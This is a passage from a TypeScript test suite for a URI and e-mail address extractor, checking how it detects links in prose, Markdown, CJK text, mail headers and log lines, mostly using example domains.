      "mailto:foo-@example.com",
      "mailto:a-_b@example.com",
      "mailto:x-+y@example.com",
    ]);
    // a file name, a quoted name: no link
    expect(uris('configure.info-[1-3] from "Example.com-", and', f)).toEqual([]);
    // a dot-atom broken at its dot (raw quoted-printable): no piece of it is an address —
    // also when the line before is long enough to end a fuzzy segment (4,096+ bytes)
    expect(uris("From: wade=\n.fife@ettus.com", f)).toEqual([]);
    expect(uris(`${"b".repeat(5000)}\n.foo@bar.baz`, f)).toEqual([]);
    expect(uris(`${"b ".repeat(2500)}.foo@bar.baz`, f)).toEqual(["mailto:foo@bar.baz"]);
  });

  test("a www. host's port before no path; a dash after a name is the text's", () => {
    const f = { fuzzy: true };
    expect(uris("Joe went to www.yahoo.com:8000 today, www.yahoo.com:8000?abc", f)).toEqual([
      "http://www.yahoo.com:8000",
      "http://www.yahoo.com:8000?abc",
    ]);
    // without "www." a name and a number are a file and a line ("script.sh:10")
    expect(uris("yahoo.com:8000 today script.sh:10", f)).toEqual([]);
    // (not after an address: GFM's "a.b-c_d@a.b-" is none, as linkify-it finds)
    expect(uris("mail foo@bar.baz- or see www.example.com- now", f)).toEqual([
      "http://www.example.com",
    ]);
    expect(uris("www.example.com/a- x-y.example.com", f)).toEqual([
      "http://www.example.com/a-",
      "http://x-y.example.com",
    ]);
  });

  test("an internationalized local part; a '.' or ':' that opens the word is the text's", () => {
    const f = { fuzzy: true };
    // RFC 6531 §3.3, RFC 6532 §3.2 (Autolinker, Rust linkify)
    expect(uris("Joe's email is mañana@mañana.com, or Кириллица@Кириллица.com", f)).toEqual([
      "mailto:mañana@mañana.com",
      "mailto:Кириллица@Кириллица.com",
    ]);
    expect(uris("Grüße an üñîçøðé@example.com!", f)).toEqual(["mailto:üñîçøðé@example.com"]);
    expect(uris(".foo@bar.baz (.asdf@asdf.com) :a@example.com:", f)).toEqual([
      "mailto:foo@bar.baz",
      "mailto:asdf@asdf.com",
      "mailto:a@example.com",
    ]);
    // not inside a word: no dot-atom holds "..", and "user:pass@host" is a userinfo
    expect(uris("a..b@example.com user:pass@ftp.example.com .profile café", f)).toEqual([]);
  });

  test("no schemeless link after '#' or '$' (a hashtag, a cashtag; twitter-text)", () => {
    const f = { fuzzy: true };
    expect(uris("#test.com #t.co/abcde $TVI.CA $twitter.com $http://x.example/", f)).toEqual([
      "http://x.example/",
    ]);
  });

  test("Markdown '_' emphasis around a link or an address; a local part may start with '_'", () => {
    const f = { fuzzy: true };
    expect(
      uris("__test@test.com__ _me@example.com_ _www.example.com_, __www.example.com__.", f),
    ).toEqual([
      "mailto:test@test.com",
      "mailto:me@example.com",
      "http://www.example.com",
      "http://www.example.com",
    ]);
    expect(uris("_see www.example.com_ and x _www.example.com/a_b_ y", f)).toEqual([
      "http://www.example.com",
      "http://www.example.com/a_b",
    ]);
    // the closing run after a path is the emphasis's, not the path's
    expect(uris("_www.example.com/path_ see _example.com/foo_bar_ now", f)).toEqual([
      "http://www.example.com/path",
      "http://example.com/foo_bar",
    ]);
    // no closing run: the underscores are the local part's (before: one "_" was dropped)
    expect(uris("__init__@example.com __me@example.com _foo@example.com", f)).toEqual([
      "mailto:__init__@example.com",
      "mailto:__me@example.com",
      "mailto:_foo@example.com",
    ]);
    // GFM: "a.b-c_d@a.b_" is no address
    expect(uris("a.b-c_d@a.b_", f)).toEqual([]);
  });

  test("no address: a version after @, a piece of a longer local part", () => {
    const f = { fuzzy: true };
    // a TLD is never all digits (RFC 3696 §2)
    expect(uris("installed info@v1.1.1 and pkg@1.2.3", f)).toEqual([]);
    expect(uris("#!$%&'*+-/=?^_`{}|~@example.org", f)).toEqual([]);
    // "mil", an original generic TLD (RFC 1591) missing from linkify-it's list
    expect(uris("see abcd.efgh.mil, or hi.there.org", f)).toEqual([
      "http://abcd.efgh.mil",
      "http://hi.there.org",
    ]);
  });

  test("an address's domain is letters, digits, hyphens and dots (the GFM example)", () => {
    expect(fuzzy("hello@mail+xyz.example isn't valid, but hello+xyz@mail.example is.")).toEqual([
      ["mailto:hello+xyz@mail.example", "hello+xyz@mail.example", 40, 62],
    ]);
  });

  test("byte offsets stay right after ill-formed bytes (each maximal subpart is one U+FFFD)", () => {
    const bytes = Buffer.concat([
      Buffer.from([0xff, 0x20, 0xe2, 0x82, 0x20, 0xf0, 0x9f, 0x98, 0xed, 0xa0, 0x80, 0x20]),
      Buffer.from("www.example.com x"),
    ]);
    const found = extractText(bytes, { fuzzy: true });
    expect(found.map((f) => [f.uri, f.start, f.end])).toEqual([["http://www.example.com", 12, 27]]);
    expect(bytes.subarray(12, 27).toString()).toBe("www.example.com");
  });

  test("an address's characters that RFC 6068 reserves are percent-encoded in the mailto URI", () => {
    // RFC 6068 §6.2: "Mike&family@example.org" is <mailto:Mike%26family@example.org>
    expect(fuzzy("write to Mike&family@example.org.")).toEqual([
      ["mailto:Mike%26family@example.org", "Mike&family@example.org", 9, 32],
    ]);
    // bounce (VERP) and SRS addresses: "=" is not a qchar (§2); raw stays as written
    expect(fuzzy("bounces+user=example.com@lists.example.org").map((f) => f[0])).toEqual([
      "mailto:bounces+user%3Dexample.com@lists.example.org",
    ]);
    expect(fuzzy("SRS0=HHH=TT=example.com=user@fwd.example.net").map((f) => f[0])).toEqual([
      "mailto:SRS0%3DHHH%3DTT%3Dexample.com%3Duser@fwd.example.net",
    ]);
    expect(fuzzy("a%b@example.com").map((f) => f[0])).toEqual(["mailto:a%25b@example.com"]);
    // RFC 6068 §2: "&", ";" and "=" at least are encoded (linkify-it finds no such address
    // with ";", the function is checked on its own)
    expect(mailtoUri("a;b&c=d/e?f#g@example.com")).toBe(
      "mailto:a%3Bb%26c%3Dd%2Fe%3Ff%23g@example.com",
    );
    // some-delims stay as they are
    expect(fuzzy("o'brien+tag@example.com").map((f) => f[0])).toEqual([
      "mailto:o'brien+tag@example.com",
    ]);
    for (const f of extractText("Mike&family@example.org bounce=x@example.org", { fuzzy: true }))
      expect(f.valid).toBe(true);
  });

  test("quoting glued to an address is not part of it; a path with an @ is no address", () => {
    expect(fuzzy("report to `bug-bash@gnu.org'.").map((f) => f[0])).toEqual([
      "mailto:bug-bash@gnu.org",
    ]);
    expect(fuzzy("<x from='juliet@example.com' to='romeo@example.net'/>").map((f) => f[1])).toEqual(
      ["juliet@example.com", "romeo@example.net"],
    );
    expect(fuzzy('(e.g. "=foo@example.org")')).toEqual([
      ["mailto:foo@example.org", "foo@example.org", 8, 23],
    ]);
    expect(fuzzy("o'brien@example.com").map((f) => f[0])).toEqual(["mailto:o'brien@example.com"]);
    // a dotted key before "=" is a field name (RFC 8601 Authentication-Results); a bounce
    // address keeps its "=" (its dots come after it)
    expect(fuzzy("spf=pass smtp.mailfrom=jqd@d1.example").map((f) => f[0])).toEqual([
      "mailto:jqd@d1.example",
    ]);
    expect(fuzzy("bounces+list=lfdr.de@lists.example.com").map((f) => f[0])).toEqual([
      "mailto:bounces+list%3Dlfdr.de@lists.example.com",
    ]);
    expect(fuzzy("foo.bar-bounces+jane=example.com@lists.example.org").map((f) => f[0])).toEqual([
      "mailto:foo.bar-bounces+jane%3Dexample.com@lists.example.org",
    ]);
    // rinku: linkify-it alone misses an address before ".<"
    expect(
      fuzzy("<p>say hello to david@loudthinking.com.</p> <www.example.com>").map((f) => f[1]),
    ).toEqual(["david@loudthinking.com", "www.example.com"]);
    // a port before a path (Autolinker, anchorme, linkifyjs; linkify-it 6 takes no port);
    // without a path "script.sh:10" is a file and a line
    expect(fuzzy("see www.example.com:8080/path now")).toEqual([
      ["http://www.example.com:8080/path", "www.example.com:8080/path", 4, 29],
    ]);
    expect(fuzzy("at script.sh:10: error")).toEqual([]);
    // DKIM "header.i=@gmail.com" (an empty field), rinku's "abc/def@ghi.x"
    expect(fuzzy("dkim=pass header.i=@gmail.com; see abc/def@ghi.x")).toEqual([]);
  });

  test("a schemeless host does not run into CJK text around it", () => {
    expect(fuzzy("请访问www.example.com，谢谢")).toEqual([
      ["http://www.example.com", "www.example.com", 9, 24],
    ]);
    // linkify-it alone finds nothing in these (an unknown TLD "org版权所有", no local part)
    expect(fuzzy("www.example.org版权所有")).toEqual([
      ["http://www.example.org", "www.example.org", 0, 15],
    ]);
    expect(fuzzy("联系support@example.cn获取")).toEqual([
      ["mailto:support@example.cn", "support@example.cn", 6, 24],
    ]);
    expect(fuzzy("いまなにしてるwww.example.comいまなにしてる").map((f) => f[0])).toEqual([
      "http://www.example.com",
    ]);
    // a path keeps its IRI text, digits and letters after CJK included (up to a space or
    // CJK punctuation)
    expect(
      fuzzy("ja.wikipedia.org/wiki/第2次世界大戦 www.example.jp/検索?q=東京abc").map((f) => f[0]),
    ).toEqual([
      "http://ja.wikipedia.org/wiki/第2次世界大戦",
      "http://www.example.jp/検索?q=東京abc",
    ]);
    expect(
      fuzzy("请访问www.example.com/path，联系support@example.cn获取").map((f) => f[0]),
    ).toEqual(["http://www.example.com/path", "mailto:support@example.cn"]);
    // IDN labels, all-CJK hosts and IRI paths stay
    expect(fuzzy("see 日本語.jp here")).toEqual([["http://日本語.jp", "日本語.jp", 4, 16]]);
    expect(fuzzy("www.example.com/wiki/Tokyo東京 ok").map((f) => f[0])).toEqual([
      "http://www.example.com/wiki/Tokyo東京",
    ]);
    expect(fuzzy("see www.日本.jp/パス")).toEqual([
      ["http://www.日本.jp/パス", "www.日本.jp/パス", 4, 24],
    ]);
  });

  test("a host starts after the last symbol linkify-it took for a letter (`=`, a zero-width space)", () => {
    expect(fuzzy("go?next=bar.org now")).toEqual([["http://bar.org", "bar.org", 8, 15]]);
    expect(fuzzy("Query #1: QNAME=www.example.com, QTYPE=A").map((f) => f[1])).toEqual([
      "www.example.com",
    ]);
    expect(fuzzy("DKIM-Signature: v=1; d=gmail.com; s=20210112").map((f) => f[0])).toEqual([
      "http://gmail.com",
    ]);
    expect(fuzzy("x \u200bni.com y")).toEqual([["http://ni.com", "ni.com", 5, 11]]);
    // letters of other scripts are host characters
    expect(fuzzy("visit ökologie.de today").map((f) => f[1])).toEqual(["ökologie.de"]);
  });

  test("Git's scp-like remote user@host:path is no e-mail address", () => {
    // goldmark's linkify test; an address before ": " or at the end still is one
    expect(fuzzy("clone git@github.com:vim/vim.git or `git@gitlab.example:~/x`")).toEqual([]);
    expect(fuzzy("write to me@example.com: thanks, or me@example.com:").map((f) => f[0])).toEqual([
      "mailto:me@example.com",
      "mailto:me@example.com",
    ]);
  });

  test("no fuzzy link inside a candidate that gave no record (an invalid URI is still a URI)", () => {
    expect(fuzzy("http://example.com:99999/?next=bar.org")).toEqual([]);
    expect(fuzzy("see http://ex%zzample.com/a?u=foo.com&x=1 ok")).toEqual([]);
    expect(fuzzy("x http://[bad]/?u=www.example.org")).toEqual([]);
    // a scheme left out by `schemes` blocks it too
    expect(
      extractText("ftp://ftp.example.org/?mirror=www.example.net", {
        fuzzy: true,
        schemes: ["http"],
      }),
    ).toEqual([]);
    // but an angle candidate with spaces inside is prose, and the link in it is found
    expect(fuzzy("<Note: see www.example.com>").map((f) => f[0])).toEqual([
      "http://www.example.com",
    ]);
  });

  test("a long schemeless link is found whole (linkify-it's maxLength left at its default)", () => {
    const path = "a".repeat(400);
    expect(fuzzy(`see www.example.com/${path} end`)).toEqual([
      [`http://www.example.com/${path}`, `www.example.com/${path}`, 4, 420],
    ]);
  });

  test("a long run of scheme URIs with no space costs what prose with links costs", () => {
    // linkify-it validated every `http:` of a segment up to its end (quadratic in the
    // segment: 100 kB took 2.3 s); urisift reads schemes itself and drops those matches
    const time = (text: string) => {
      const t = performance.now();
      extractText(text, { fuzzy: true });
      return performance.now() - t;
    };
    const glued = "http://a.example/b".repeat(6000);
    const spaced = "see www.a.example/b ok ".repeat(4700);
    time(spaced);
    time(glued);
    expect(time(glued)).toBeLessThan(10 * time(spaced) + 100);
  });
});

describe("found by the review of session 14's rules", () => {
  test("a '|' inside a word is an address's (RFC 5322 atext), a table's only on a table line", () => {
    expect(uris("Jernej <jernej|s-wget@eternallybored.org>", { fuzzy: true })).toEqual([
      "mailto:jernej%7Cs-wget@eternallybored.org",
    ]);
    expect(uris("|bob@foo.com|555-9999|", { fuzzy: true })).toEqual(["mailto:bob@foo.com"]);
    expect(uris("| see | www.foo.com/a |", { fuzzy: true })).toEqual(["http://www.foo.com/a"]);
  });
  test("a '|' after a host or an address ends it; a message identifier is no address, folded too", () => {
    const f = { fuzzy: true };
    expect(uris("jane@example.com|Fix the build www.example.com|docs", f)).toEqual([
      "mailto:jane@example.com",
      "http://www.example.com",
    ]);
    expect(uris("jernej|s-wget@eternallybored.org and x|y", f)).toEqual([
      "mailto:jernej%7Cs-wget@eternallybored.org",
    ]);
    // RFC 5322 §2.2.3 folding, quoted, CR line ends, escaped; an address in a comment stays
    const headers = [
      "References: <a1@x.example.com>\n <a2@x.example.com>\n\t<a3@x.example.com>",
      "> References: <a4@x.example.com>\n>  <a5@x.example.com>",
      "In-Reply-To: <a6@x.example.com> (Joe <joe@example.com>)\r",
      "Message-ID: &lt;a7@x.example.com&gt;\rTo: <bob@example.com>",
      "   Message-ID: <a8@x.example.com>",
      "References: see <ann@example.com> for details",
    ].join("\n");
    expect(uris(headers, f)).toEqual([
      "mailto:joe@example.com",
      "mailto:bob@example.com",
      "mailto:ann@example.com",
    ]);
    // a header line longer than a fuzzy segment: its verdict goes on into the next segment
    const long = `References: ${Array.from({ length: 40 }, (_, k) => `<id${k}@x.example.com>`).join(" ")}\nTo: <c@example.com>`;
    expect(uris(long, { fuzzy: true, maxLength: 64 })).toEqual(["mailto:c@example.com"]);
    // a folded field whose lines end segments (the usrp mbox's References): the verdict of
    // a segment's last line goes on, not that of the empty line after its final LF
    const folded = `References: ${Array.from({ length: 12 }, (_, k) => `<i${k}-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@mail.example.com>`).join("\n ")}\nTo: <c@example.com>\n`;
    for (const maxLength of [undefined, 128, 200, 500, 1000]) {
      expect(uris(folded, { fuzzy: true, maxLength }), `maxLength ${maxLength}`).toEqual([
        "mailto:c@example.com",
      ]);
    }
    expect(uris("logo@1.5x.png icon@2x.webp", f)).toEqual([]);
  });
  test("fuzzy: an '@' in a path or query is the link's; a label before an address is the text's", () => {
    const f = { fuzzy: true };
    expect(uris("www.example.com/foo@bar.com see www.x.com?email=a@b.com now", f)).toEqual([
      "http://www.example.com/foo@bar.com",
      "http://www.x.com?email=a@b.com",
    ]);
    expect(uris("email:foo@example.com E-Mail:bar@example.com user:pass@example.com", f)).toEqual([
      "mailto:foo@example.com",
      "mailto:bar@example.com",
    ]);
    expect(uris("foo@bar%2Ebar.com ==www.google.com== ^^a@b.example.org^^", f)).toEqual([
      "http://www.google.com",
      "mailto:a@b.example.org",
    ]);
    // a quoted-printable soft line break in a raw archive is no mark: no cut-off address
    expect(
      uris("send to usrp-users-leave@lists.ettu=\ns.com now", f).filter((u) =>
        u.startsWith("mailto:"),
      ),
    ).toEqual([]);
  });
  test("after '_' in a word, a registered scheme found in the run still starts a URI", () => {
    expect(uris("see_also...https://x.org/ a_e.g.https://y.org/ my_edgehttps://z.org")).toEqual([
      "https://x.org/",
      "https://y.org/",
      "https://z.org",
    ]);
    expect(uris("rfc-2396+under_score://link")).toEqual([]);
  });
  test("hyphens ending a path stay; '&#124;' inside a URI does not end it", () => {
    expect(uris("see https://en.wikipedia.org/wiki/C-- for GET /?id=1-- 200")).toEqual([
      "https://en.wikipedia.org/wiki/C--",
    ]);
    expect(
      uris("&quot;https://fonts.googleapis.com/css?family=Roboto&#124;Open+Sans&quot;"),
    ).toEqual(["https://fonts.googleapis.com/css?family=Roboto&#124;Open+Sans"]);
    // HTML reads "&#138;" as Windows-1252's "Š": a letter, not a control
    expect(uris("http://x.example/a&#138;b")).toEqual(["http://x.example/a&#138;b"]);
  });
});

describe("found by session 15's peer suites", () => {
  test("a wrapper with nothing after the scheme's colon: a URI only for a registered scheme", () => {
    // "<tv:>" is the current channel (RFC 2838 §2); "<about:>" an empty about-token (RFC 6694)
    expect(uris("watch <tv:> now, or <URL:tv:>")).toEqual(["tv:", "tv:"]);
    expect(uris("<about:>")).toEqual(["about:"]);
    expect(uris("<Note:> and <x-foo:>")).toEqual([]);
    // other schemes' syntax needs more after the colon (and "<mailto:" LF "> > a@b>" is a
    // quoted line's wrapper broken at a deeper quote): no candidate, even with --all
    const all = { includeInvalid: true };
    expect(uris("<http:> <sip:> <geo:> <mailto:> <Go:> <Session:>", all)).toEqual([]);
    // bare, "TV:" and "mailto:" are labels: nothing after the colon
    expect(uris("TV: tonight. Use the mailto: scheme")).toEqual([]);
    expectAtEverySplit("x <tv:> y <URL:tv:>", ["tv:", "tv:"]);
  });

  test("a typographic apostrophe inside a word of the path is the path's (U+2019, ucschar)", () => {
    expect(uris("see http://x.example/eric-schmidt’s-talk/ and http://x.example/l’été")).toEqual([
      "http://x.example/eric-schmidt’s-talk/",
      "http://x.example/l’été",
    ]);
    // in the host, or closing a quotation, it is the text's
    expect(
      uris("http://example.com’s page, ‘http://x.example/a’ and http://x.example/a’ b"),
    ).toEqual(["http://example.com", "http://x.example/a", "http://x.example/a"]);
    expectAtEverySplit("x http://x.example/it’s-ok y", ["http://x.example/it’s-ok"]);
    // a closing ’ with a Korean particle or Chinese text glued after it, or after a ‘
    expect(uris("자세한 내용은 ‘https://github.com/foo/bar’에서 확인하세요")).toEqual([
      "https://github.com/foo/bar",
    ]);
    expect(uris("请访问‘http://example.com/abc’获取 ‘http://example.com/docs’and")).toEqual([
      "http://example.com/abc",
      "http://example.com/docs",
    ]);
    // tags are no ucschar (RFC 3987 §2.2): a flag emoji's tag sequence ends the URI before
    // its 🏴
    const flag = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}";
    expect(uris(`Go https://t.co/abc${flag} yes`)).toEqual(["https://t.co/abc"]);
  });

  test("the specials (U+FFFC, U+FFFD) end a URI; a private use character ends it outside the query", () => {
    // no ucschar (RFC 3987 §2.2): a URI that a lossy conversion left a U+FFFD in was refused
    // whole (bad-path), and so not reported at all
    expect(uris("see http://a.example/caf\uFFFD ok, http://a.example/x\uFFFCy")).toEqual([
      "http://a.example/caf",
      "http://a.example/x",
    ]);
    expect(uris('"http://a.example/p\uFFFD" <http://a.example/q\uFFFD>')).toEqual([
      "http://a.example/p",
      "http://a.example/q",
    ]);
    // iprivate is the query's alone (RFC 3987 §2.2): an icon font's glyph glued to a path, a
    // host or a fragment is the text's
    expect(
      uris(
        "x http://a.example/p\uE000 http://a.example/?q=\uE000\u{F0000}#f\uF8FF http://a\uE001.example/",
      ),
    ).toEqual(["http://a.example/p", "http://a.example/?q=\uE000\u{F0000}#f", "http://a"]);
    expectAtEverySplit("x http://a.example/?q=\uE000#\uE000 y", ["http://a.example/?q=\uE000#"]);
    // in brackets or quotes too: no URI runs to the closer, the bare rules end it there
    expect(
      uris('<http://a.example/p\uE000q> "http://a.example/p\uE000q" <http://a.example/?\uE000>'),
    ).toEqual(["http://a.example/p", "http://a.example/p", "http://a.example/?\uE000"]);
    // a "#" of a character reference, or of a comment marker the URI's next line starts
    // with, begins no fragment
    expect(
      uris(
        "see http://a.example/p?a=1&#38;b=\uE000x end\n# see <http://a.example/long/pa\n# th?q=\uE000x>",
      ),
    ).toEqual(["http://a.example/p?a=1&b=\uE000x", "http://a.example/long/path?q=\uE000x"]);
    expectAtEverySplit('"http://a.example/?p#\uE000q" <http://a.example/?p\n  \uE000q>', [
      "http://a.example/?p#",
      "http://a.example/?p\uE000q",
    ]);
    // the bidirectional formatting characters are refused in an IRI (RFC 3987 §4.1): they
    // end it, U+061C ARABIC LETTER MARK as U+200F RIGHT-TO-LEFT MARK
    expect(uris("x http://a.example/p\u061Cq http://a.example/p\u200Fq")).toEqual([
      "http://a.example/p",
      "http://a.example/p",
    ]);
  });

  test("fuzzy: local parts of letters in any script; long domains", () => {
    const addresses = (text: string) => extractText(text, { fuzzy: true }).map((f) => f.uri);
    expect(addresses("현금영수증@android.kr, ნიკა@example.ge")).toEqual([
      "mailto:현금영수증@android.kr",
      "mailto:ნიკა@example.ge",
    ]);
    // CJK text glued before an ASCII local part is still the text's, and in a script written
    // without spaces the letters before "@" are the clause, unless a bracket or a quote
    // opens the address
    expect(addresses("联系support@example.cn获取")).toEqual(["mailto:support@example.cn"]);
    expect(addresses("如有疑问请发邮件至客服@example.cn。連絡先は山田@example.jpです")).toEqual([]);
    expect(addresses("<测@foo.测.baz> 「客服@example.cn」")).toEqual([
      "mailto:测@foo.测.baz",
      "mailto:客服@example.cn",
    ]);
    expect(addresses("문의: 고객센터@example.co.kr")).toEqual(["mailto:고객센터@example.co.kr"]);
    expect(addresses("a@bücher.de")).toEqual(["mailto:a@bücher.de"]);
    // a domain of more than five labels (linkify-it's own limit: its pattern is patched)
    expect(addresses("user@mail.cs.dept.uni.example.ac.uk")).toEqual([
      "mailto:user@mail.cs.dept.uni.example.ac.uk",
    ]);
  });

  test("fuzzy: a network-path reference to a dotted name (RFC 3986 §4.2)", () => {
    const links = (text: string) =>
      extractText(text, { fuzzy: true }).map((f) => [f.uri, f.raw, f.delimiter]);
    expect(links("<script src='//www.example.com/a.js'></script>")).toEqual([
      ["http://www.example.com/a.js", "www.example.com/a.js", "fuzzy"],
    ]);
    expect(links('src="//cdn.example.net/x@1/a.js"')).toEqual([
      ["http://cdn.example.net/x@1/a.js", "cdn.example.net/x@1/a.js", "fuzzy"],
    ]);
    expect(links("<img src=//cdn.example.com/a.png> url(//cdn.example.com/b.png)")).toEqual([
      ["http://cdn.example.com/a.png", "cdn.example.com/a.png", "fuzzy"],
      ["http://cdn.example.com/b.png", "cdn.example.com/b.png", "fuzzy"],
    ]);
    expect(links("see //www.example.com/x").map((f) => f[0])).toEqual(["http://www.example.com/x"]);
    // a value in CSS, JavaScript or JSON
    for (const text of [
      'src: url("//fonts.example.com/s/a.woff2")',
      '@import "//fonts.example.com/css";',
      's.src = "//fonts.example.com/w.js";',
      '"url": "//fonts.example.com/a.js"',
    ]) {
      expect(
        links(text).map((f) => f[0].slice(0, 25)),
        text,
      ).toEqual(["http://fonts.example.com/"]);
    }
    // its scheme is the page's: only in an attribute, CSS, or for a "www." name. Not SMB's
    // "//server/share", npm's registry keys, a userinfo, nor after a mangled "https:"
    for (const text of [
      "My ssl //example.com site",
      "smbclient //fs01.corp.example.com/public",
      'echo "//npm.pkg.github.com/:_authToken=x" >> .npmrc',
      "(//user@example.com) href='//user@www.example.com/'",
      "see https: //www.example.com/a, https //www.example.com/b",
      "x\n    //www.example.com/a",
    ]) {
      expect(links(text), text).toEqual([]);
    }
    // (an indented "//www." name after "https:" that ends the line is the URL's rest, as
    // `pdftotext -layout` writes it: the bare rules join it, session 37)
    expect(links("see https:\n    //www.example.com/a")).toEqual([
      ["https://www.example.com/a", "https:\n    //www.example.com/a", "bare"],
    ]);
    // not glued to a word or a scheme's colon, and "// " opens a comment
    expect(links("a//www.example.com")).toEqual([]);
    expect(links("//TODO fix.this")).toEqual([]);
    // at a line's start it goes on the line before: a scheme broken there, or quoted-printable's
    // soft line break in a raw mail archive ("https:=" LF "//…" is no "http://" link)
    expect(links('<a href=3D"https:=\n//files.example.com/a.pdf">').map((f) => f[0])).toEqual([]);
    expect(links("see\n//www.example.com/a")).toEqual([]);
    expect(links("file:///www.example.com/a").map((f) => f[2])).toEqual(["bare"]);
  });
});

describe("a registered scheme and one plain word: a key:value field (word-schemes.ts)", () => {
  test("log and config fields whose key is a registered scheme are no URIs", () => {
    const line =
      "level=info session:abc123 query:foo message:hello proxy:on resource:db platform:linux " +
      "tool:pytest notes:x icon:warn market:us feed:rss res:ok things:3 go:embed OID:PID";
    expect(uris(line)).toEqual([]);
    // RFC texts: WebDAV's element names, YANG types, SDP attributes
    expect(uris("omit all DAV:propstat XML elements")).toEqual([]);
    expect(uris("server-identity?      snmp:admin-string\n")).toEqual([]);
    expect(uris("a=acap:1 a=rtcp-mux\na=tool:foobar V3.2\n")).toEqual([]);
  });

  test("review: WebRTC's and DTN's word URIs, link places in markup, dotted cid and tv", () => {
    expect(
      uris(
        '{urls: "stun:stun.services.mozilla.com"} turn:turn.example.org dtn:none ipn:977.1 ' +
          '<a href="apt:firefox">x</a> [install](steam:library) tv:nbc.com cid:image001.png',
      ),
    ).toEqual([
      "stun:stun.services.mozilla.com",
      "turn:turn.example.org",
      "dtn:none",
      "ipn:977.1",
      "apt:firefox",
      "steam:library",
      "tv:nbc.com",
      "cid:image001.png",
    ]);
    // bare, a cid or tv word needs a dot; short numbers are counts; non-ASCII words are words
    expect(
      uris(
        'TV:Yes cid:8c2a4f sms:0 skype:1 query:café "message:créé" src="cid:logo" ' +
          "[cid:24aed338-2b81-4034-9a58-38a0268e8c70]",
      ),
    ).toEqual(["cid:logo", "cid:24aed338-2b81-4034-9a58-38a0268e8c70"]);
  });

  test("a number alone is a port or a count, unless the scheme's words are numbers", () => {
    expect(uris("allow sip:5060 xmpp:5222 dns:53 snmp:161 spotify:42")).toEqual([]);
    expect(uris("text sms:5551234 or callto:5551234")).toEqual(["sms:5551234", "callto:5551234"]);
    // schemes with a rule of the core's: judged by it (invalid: no host)
    expect(uris("redis:6379 ftp:21")).toEqual([]);
    expect(uris("redis:6379 ftp:21", { includeInvalid: true })).toEqual(["redis:6379", "ftp:21"]);
  });

  test("schemes whose URIs are one word are still read bare", () => {
    expect(
      uris(
        "about:blank, news:comp.lang.c, sip:biloxi.com, skype:echo123, snews:comp.lang.perl.misc, " +
          "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT, ms-settings:network-wifi, " +
          "opaquelocktoken:f81d4fae-7dec-11d0-a765-00a0c91e6bf6, xmpp:example.com",
      ),
    ).toEqual([
      "about:blank",
      "news:comp.lang.c",
      "sip:biloxi.com",
      "skype:echo123",
      "snews:comp.lang.perl.misc",
      "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
      "ms-settings:network-wifi",
      "opaquelocktoken:f81d4fae-7dec-11d0-a765-00a0c91e6bf6",
      "xmpp:example.com",
    ]);
    // dangerous schemes are found for their warning
    expect(extractText("x javascript:void y")[0]?.warnings).toContain("dangerous-scheme");
  });

  test("a manual page's man: URI (in no registry; systemd's Documentation=) is found with its section", () => {
    // (a probe of 185 systemd units: 0 of 208 found before)
    const text =
      "Documentation=man:systemd-journald.service(8) man:journald.conf(5)\n" +
      "see man:git-config(1), and man:ls(1). Not a field: man:ls, the man: a story, Batman:Arkham";
    expect(uris(text)).toEqual([
      "man:systemd-journald.service(8)",
      "man:journald.conf(5)",
      "man:git-config(1)",
      "man:ls(1)",
    ]);
    expect(uris(text, { schemes: ["man"] })).toHaveLength(4);
  });

  test("more than one plain word after the colon, a wrapper or URL: is a URI", () => {
    expect(
      uris("feed:https://example.org/rss platform:/plugin/x.y spotify:track:6rqhFgbbKwnb9"),
    ).toEqual([
      "feed:https://example.org/rss",
      "platform:/plugin/x.y",
      "spotify:track:6rqhFgbbKwnb9",
    ]);
    expect(uris("<session:abc> URL:session:ghi")).toEqual(["session:abc", "session:ghi"]);
  });

  test("a quote delimits a value: a field there too, unless the scheme is listed", () => {
    expect(
      uris(
        '{"type":"message:created","scope":"profile:read","x":"session:a:b"} xmlns="jabber:client"',
      ),
    ).toEqual(["session:a:b", "jabber:client"]);
    expect(uris("'about:blank' \"res:ok\"")).toEqual(["about:blank"]);
  });

  test("a scheme with a rule of the core's is judged by it (reported with includeInvalid)", () => {
    expect(uris("see http:abc.com")).toEqual([]);
    expect(uris("see http:abc.com", { includeInvalid: true })).toEqual(["http:abc.com"]);
    expect(uris("see telnet:x", { includeInvalid: true })).toEqual(["telnet:x"]);
  });

  test("a field broken at a hyphen and a line break is still a field", () => {
    expect(
      uris(
        'x session:abc-\ndef y "tool:py-\ntest" z session:abc-\n  def/ghi\n' +
          "news:comp.lang-\nc.moderated about:con-\nfig sip:alice-\nbob\n",
      ),
    ).toEqual([
      "session:abc-def/ghi",
      "news:comp.lang-c.moderated",
      "about:con-fig",
      "sip:alice-bob",
    ]);
    expectRecordsAtEverySplit("x session:abc-\ndef y news:comp.lang-\nc.moderated\n");
  });

  test("the same records at every split", () => {
    expectRecordsAtEverySplit("a session:abc b about:blank c tool:x.y d news:a.b\n");
  });
});

describe("found by session 16's log hunt", () => {
  const fuzzy = (text: string) => uris(text, { fuzzy: true });

  test("fuzzy: a log field's name before = is not the address's", () => {
    expect(
      fuzzy(
        "imapd: LOGIN FAILED, user=sales@example.com, ip=[::ffff:1.2.3.4]\n" +
          "exim: H=x [1.2.3.4] F=auguries@google.com rejected after DATA\n" +
          "postfix/smtpd: sasl_method=PLAIN, sasl_username=carol@example.com\n",
      ),
    ).toEqual([
      "mailto:sales@example.com",
      "mailto:auguries@google.com",
      "mailto:carol@example.com",
    ]);
    // bounce addresses keep their tags: SRS, BATV, VERP with and without "+"
    expect(
      fuzzy(
        "SRS0=HHH=TT=example.com=joe@srs.example.net prvs=1234abcd5=user@example.com " +
          "list-bounces-jane=example.com@lists.example.org bounces+jane=example.com@lists.example.org",
      ),
    ).toEqual([
      "mailto:SRS0%3DHHH%3DTT%3Dexample.com%3Djoe@srs.example.net",
      "mailto:prvs%3D1234abcd5%3Duser@example.com",
      "mailto:list-bounces-jane%3Dexample.com@lists.example.org",
      "mailto:bounces+jane%3Dexample.com@lists.example.org",
    ]);
    // a Gmail message identifier's mixed-case head is no field name: the old reading stays
    expect(fuzzy("x CAFche=jTB7rV4ZwX@mail.gmail.com y")).toEqual([
      "mailto:CAFche%3DjTB7rV4ZwX@mail.gmail.com",
    ]);
  });

  test("fuzzy: message identifiers in log lines are no addresses", () => {
    expect(
      fuzzy(
